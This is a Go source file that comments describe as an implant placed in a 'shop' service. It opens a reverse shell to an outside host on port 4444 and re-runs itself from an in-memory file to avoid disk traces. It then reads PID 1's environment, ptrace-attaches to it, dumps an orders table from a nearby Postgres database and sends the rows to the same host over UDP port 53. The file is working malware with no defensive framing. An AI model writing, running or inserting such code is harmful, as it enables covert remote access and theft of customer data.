package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"time"

	"golang.org/x/sys/unix"
)

// implant is what was put into the shop: it gives a shell to the one who did, then
// runs a program from memory.
func implant([]string) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	if err := unix.Connect(fd, &unix.SockaddrInet4{Addr: [4]byte{203, 0, 113, 66}, Port: 4444}); err != nil {
		return err
	}
	for n := range 3 {
		if err := unix.Dup3(fd, n, 0); err != nil {
			return err
		}
	}
	sh := exec.Command("/bin/sh", "-i")
	sh.Stdin, sh.Stdout, sh.Stderr = os.Stdin, os.Stdout, os.Stderr
	err = sh.Run()
	for n := range 3 {
		err = errors.Join(err, unix.Close(n))
	}
	if err := errors.Join(err, unix.Close(fd)); err != nil {
		return err
	}
	time.Sleep(time.Second)
	return runFromMemory("collect")
}

// runFromMemory goes on as this program from memory, by another name.
func runFromMemory(name string) error {
	program, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	fd, err := unix.MemfdCreate("loader", unix.MFD_CLOEXEC)
	if err != nil {
		return err
	}
	if _, err := unix.Write(fd, program); err != nil {
		return err
	}
	return unix.Exec(fmt.Sprintf("/proc/self/fd/%d", fd), []string{name}, nil)
}

// collect takes what it can get: the environment of the shop, its memory, and what
// the database has.
func collect([]string) error {
	runtime.LockOSThread()
	if _, err := os.ReadFile("/proc/1/environ"); err != nil {
		return err
	}
	if err := unix.PtraceAttach(1); err != nil {
		return err
	}
	if _, err := unix.Wait4(1, nil, unix.WALL, nil); err != nil {
		return err
	}
	if err := unix.PtraceDetach(1); err != nil {
		return err
	}
	rows, err := ask("172.17.0.3:5432", "SELECT * FROM orders")
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, &unix.SockaddrInet4{Addr: [4]byte{203, 0, 113, 66}, Port: 53}); err != nil {
		return err
	}
	_, err = unix.Write(fd, rows)
	return err
}
